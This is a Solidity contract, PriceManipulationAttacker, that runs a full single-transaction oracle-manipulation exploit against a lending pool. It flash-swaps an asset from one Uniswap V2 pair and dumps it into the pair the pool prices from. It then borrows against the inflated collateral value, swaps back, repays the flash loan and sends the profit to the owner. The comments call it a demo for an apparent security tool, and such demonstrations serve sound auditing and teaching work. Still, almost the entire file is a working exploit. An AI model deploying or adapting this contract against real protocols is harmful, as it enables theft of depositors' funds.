// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

import {IUniswapV2Pair, IUniswapV2Callee} from "./IUniswapV2.sol";

/// @notice The part of LendingPool the attacker calls.
interface ILendingPoolLike {
    function depositCollateral(uint256 amount) external;

    function borrow(uint256 amount) external;
}

/// @title PriceManipulationAttacker
/// @notice Exploits LendingPool's spot-price oracle in one transaction, the
///         way real oracle-manipulation incidents look on chain:
///           0. flash-swap `flashAmount` of the asset out of a second pair
///              (flashPair, from another factory) that the pool does not price from;
///           1. dump it into the pair the pool prices from (oraclePair), buying
///              collateral and pushing the collateral's spot price up;
///           2. deposit some of the attacker's own collateral into the pool and
///              borrow against the inflated valuation;
///           3. sell the bought collateral back into oraclePair (price returns);
///           4. repay the flash swap plus the 0.3% fee.
///         What is left of the borrowed asset is sent to the owner. The deposited
///         collateral is abandoned: it is worth far less than the loan at the
///         fair price. For the Warden demo only.
contract PriceManipulationAttacker is Ownable, IUniswapV2Callee {
    using SafeERC20 for IERC20;

    ILendingPoolLike public immutable lendingPool;
    IUniswapV2Pair public immutable oraclePair;
    IUniswapV2Pair public immutable flashPair;
    IERC20 public immutable asset;
    IERC20 public immutable collateral;

    /// @dev Set for the duration of attack() so the callback only runs when we started it.
    bool private inAttack;

    event AttackExecuted(uint256 flashAmount, uint256 collateralDeposited, uint256 borrowed, uint256 profit);

    error NotFlashPair();
    error NotInitiator();
    error BadPair();

    struct Plan {
        uint256 flashAmount;
        uint256 collateralAmount;
        uint256 borrowAmount;
    }

    constructor(address lendingPool_, address oraclePair_, address flashPair_, address asset_, address collateral_)
        Ownable(msg.sender)
    {
        lendingPool = ILendingPoolLike(lendingPool_);
        oraclePair = IUniswapV2Pair(oraclePair_);
        flashPair = IUniswapV2Pair(flashPair_);
        asset = IERC20(asset_);
        collateral = IERC20(collateral_);
        _checkPair(IUniswapV2Pair(oraclePair_), asset_, collateral_);
        _checkPair(IUniswapV2Pair(flashPair_), asset_, collateral_);
    }

    /// @notice Runs the whole exploit in this transaction and sends the asset profit to the owner.
    /// @param flashAmount asset flash-borrowed from flashPair and dumped into oraclePair
    /// @param collateralAmount this contract's own collateral deposited into the pool
    /// @param borrowAmount asset borrowed from the pool at the inflated price
    function attack(uint256 flashAmount, uint256 collateralAmount, uint256 borrowAmount) external onlyOwner {
        (uint256 out0, uint256 out1) = flashPair.token0() == address(asset) ? (flashAmount, uint256(0)) : (uint256(0), flashAmount);
        inAttack = true;
        flashPair.swap(out0, out1, address(this), abi.encode(Plan(flashAmount, collateralAmount, borrowAmount)));
        inAttack = false;

        uint256 profit = asset.balanceOf(address(this));
        if (profit > 0) asset.safeTransfer(owner(), profit);
        emit AttackExecuted(flashAmount, collateralAmount, borrowAmount, profit);
    }

    /// @inheritdoc IUniswapV2Callee
    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external override {
        if (msg.sender != address(flashPair)) revert NotFlashPair();
        if (sender != address(this) || !inAttack) revert NotInitiator();
        Plan memory plan = abi.decode(data, (Plan));

        // (1) Dump the flash-borrowed asset into the oracle pair: the pool now
        //     sees far fewer collateral units per asset unit, i.e. a high price.
        uint256 bought = _swap(oraclePair, asset, plan.flashAmount);

        // (2) Borrow against our own collateral at the inflated valuation.
        collateral.forceApprove(address(lendingPool), plan.collateralAmount);
        lendingPool.depositCollateral(plan.collateralAmount);
        lendingPool.borrow(plan.borrowAmount);

        // (3) Sell the collateral back; the price returns to about where it was.
        _swap(oraclePair, collateral, bought);

        // (4) Repay the flash swap with the 0.3% fee.
        asset.safeTransfer(address(flashPair), plan.flashAmount * 1000 / 997 + 1);
    }

    /// @notice Sends this contract's whole balance of `token` to the owner.
    function withdraw(address token) external onlyOwner {
        IERC20 t = IERC20(token);
        t.safeTransfer(owner(), t.balanceOf(address(this)));
    }

    /// @dev Swaps exactly `amountIn` of `tokenIn` for the pair's other token
    ///      (transfer in, then swap with the constant-product amount out after
    ///      the 0.3% fee) and returns the amount received.
    function _swap(IUniswapV2Pair pair, IERC20 tokenIn, uint256 amountIn)
        private
        returns (uint256 amountOut)
    {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool inIs0 = pair.token0() == address(tokenIn);
        (uint256 reserveIn, uint256 reserveOut) = inIs0 ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 amountInWithFee = amountIn * 997;
        amountOut = amountInWithFee * reserveOut / (reserveIn * 1000 + amountInWithFee);
        tokenIn.safeTransfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = inIs0 ? (uint256(0), amountOut) : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }

    function _checkPair(IUniswapV2Pair pair, address a, address b) private view {
        address t0 = pair.token0();
        address t1 = pair.token1();
        if (!((t0 == a && t1 == b) || (t0 == b && t1 == a))) revert BadPair();
    }
}
